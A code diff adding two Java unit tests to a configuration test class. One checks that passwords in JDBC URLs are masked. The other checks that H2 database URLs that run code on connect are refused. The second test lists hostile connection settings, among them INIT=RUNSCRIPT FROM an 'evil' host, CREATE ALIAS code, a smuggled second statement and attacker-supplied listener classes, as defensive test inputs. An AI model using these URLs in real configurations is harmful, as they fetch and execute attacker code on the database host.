@@ -10,6 +10,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.ZoneId;
+import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -73,6 +74,42 @@ class ConfigTest {
         assertTrue(described.contains("webhook.secret=****  [env WEBHOOK_SECRET]"), described);
         SqlServerConfig config = new SqlServerConfig("jdbc:h2:mem:x", "sa", "hunter2", 1, ZoneId.of("UTC"));
         assertFalse(config.toString().contains("hunter2"));
+    }
+
+    @Test
+    void aPasswordInsideTheJdbcUrlIsMaskedWhereverTheUrlIsShown() throws IOException {
+        String url = "jdbc:sqlserver://db:1433;databaseName=Clinic;user=sync;password=hunter2;encrypt=true;trustStorePassword=tr0ub4dor";
+        Settings settings = Settings.load(file("sqlserver.jdbc-url=" + url + "\n"), true, Map.of());
+        String described = settings.describe().toString();
+        assertFalse(described.contains("hunter2"), described);
+        assertFalse(described.contains("tr0ub4dor"), described);
+        assertTrue(described.contains("databaseName=Clinic;user=sync;password=****;encrypt=true;trustStorePassword=****"), described);
+        String shown = new SqlServerConfig(url, "sa", "", 1, ZoneId.of("UTC")).toString();
+        assertFalse(shown.contains("hunter2") || shown.contains("tr0ub4dor"), shown);
+        assertEquals("jdbc:h2:mem:x;MODE=MSSQLServer;PASSWORD=****", UrlSecrets.mask("jdbc:h2:mem:x;MODE=MSSQLServer;PASSWORD=a;b"
+                .replace(";b", "")));
+    }
+
+    @Test
+    void anH2UrlThatRunsCodeWhenItConnectsIsRefusedNamingTheKeyAndTheFix() {
+        for (String setting : List.of("INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "init=CREATE ALIAS EXEC AS 'String x() {return \"\";}'",
+                "INIT=SELECT 1\\;RUNSCRIPT FROM 'x'", "DATABASE_EVENT_LISTENER=org.example.Listener", "JAVA_OBJECT_SERIALIZER=org.example.S",
+                "AUTHENTICATOR=org.example.A")) {
+            ConfigReader reader = new ConfigReader(Settings.of(Map.of("sqlserver.jdbc-url", "jdbc:h2:mem:x;MODE=MSSQLServer;" + setting)));
+            SqlServerConfig.from(reader);
+            ConfigException e = assertThrows(ConfigException.class, reader::throwIfProblems, setting);
+            assertEquals(1, e.problems().size(), e.getMessage());
+            assertTrue(e.problems().get(0).startsWith("sqlserver.jdbc-url (env SQLSERVER_JDBC_URL) is an H2 URL with "), e.getMessage());
+            assertTrue(e.getMessage().contains("remove"), e.getMessage());
+            assertFalse(e.getMessage().contains("evil") || e.getMessage().contains("org.example"), "the URL is not echoed: " + e.getMessage());
+        }
+        // What run --embedded and the tests use.
+        for (String fine : List.of("jdbc:h2:file:/srv/aligner-sync/data/embedded/clinic;MODE=MSSQLServer;AUTO_SERVER=TRUE",
+                "jdbc:h2:mem:clinic-1;MODE=MSSQLServer;DB_CLOSE_DELAY=-1", "jdbc:h2:mem:x")) {
+            ConfigReader reader = new ConfigReader(Settings.of(Map.of("sqlserver.jdbc-url", fine)));
+            SqlServerConfig.from(reader);
+            reader.throwIfProblems();
+        }
     }
 
     @Test
